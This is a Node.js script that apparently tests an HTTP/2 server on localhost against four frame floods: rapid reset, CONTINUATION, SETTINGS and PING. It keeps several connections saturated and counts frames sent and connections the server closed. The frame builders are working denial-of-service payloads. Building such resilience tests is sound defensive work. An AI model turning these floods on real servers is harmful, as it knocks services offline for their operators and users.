// Floods of HTTP/2 frames: `node http2Floods.mjs FLOOD PORT SECONDS` keeps connections busy with one of them, opens another
// for each that the server closes, and says at the end how many frames it got rid of.
import { connect } from 'node:net';
import { fileURLToPath } from 'node:url';

const preface = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n');
const connections = 8;
const framesAtOnce = 200;

function frame(type, flags, stream, payload = Buffer.alloc(0)) {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(stream, 5);
  return Buffer.concat([head, payload]);
}

/** GET http://a.test/ in HPACK, without the dynamic table. */
const request = Buffer.concat([Buffer.from([0x82, 0x86, 0x84, 0x01, 6]), Buffer.from('a.test')]);
const literal = Buffer.concat([
  Buffer.from([0, 6]),
  Buffer.from('x-more'),
  Buffer.from([4]),
  Buffer.from('more'),
]);
const cancel = Buffer.from([0, 0, 0, 8]);
const [headers, rstStream, settings, ping, continuation] = [1, 3, 4, 6, 9];
const endStream = 1;
const endHeaders = 4;

/** Each gives the frames of one turn; `turn` counts them on a connection. */
export const floods = {
  rapidReset: (turn) =>
    Buffer.concat(
      Array.from({ length: framesAtOnce / 2 }, (_, index) => {
        const stream = 1 + 2 * (turn * (framesAtOnce / 2) + index);
        return Buffer.concat([
          frame(headers, endHeaders | endStream, stream, request),
          frame(rstStream, 0, stream, cancel),
        ]);
      }),
    ),
  continuation: (turn) => {
    const more = Array.from({ length: framesAtOnce }, () => frame(continuation, 0, 1, literal));
    return Buffer.concat(turn === 0 ? [frame(headers, endStream, 1, request), ...more] : more);
  },
  settings: () =>
    Buffer.concat(
      Array.from({ length: framesAtOnce }, () => frame(settings, 0, 0, Buffer.from([0, 4, 0, 0, 255, 255]))),
    ),
  ping: () =>
    Buffer.concat(Array.from({ length: framesAtOnce }, () => frame(ping, 0, 0, Buffer.from('12345678')))),
};

function run(name, port, seconds) {
  const end = Date.now() + seconds * 1000;
  const count = { framesSent: 0, connectionsClosed: 0 };
  const open = () => {
    if (Date.now() > end) return;
    const socket = connect(port, '127.0.0.1');
    let turn = 0;
    const more = () => {
      if (Date.now() > end) socket.destroy();
      else if (!socket.destroyed) {
        count.framesSent += framesAtOnce;
        const hasRoom = socket.write(floods[name](turn++));
        if (hasRoom) setImmediate(more);
        else socket.once('drain', more);
      }
    };
    socket.on('error', () => undefined);
    socket.on('connect', () => {
      socket.write(Buffer.concat([preface, frame(settings, 0, 0)]));
      more();
    });
    socket.resume();
    socket.on('close', () => {
      count.connectionsClosed++;
      open();
    });
  };
  for (let number = 0; number < connections; number++) open();
  process.on('exit', () => console.log(JSON.stringify(count)));
}

if (process.argv[1] === fileURLToPath(import.meta.url)) {
  const [name, port, seconds] = process.argv.slice(2);
  run(name, Number(port), Number(seconds));
}
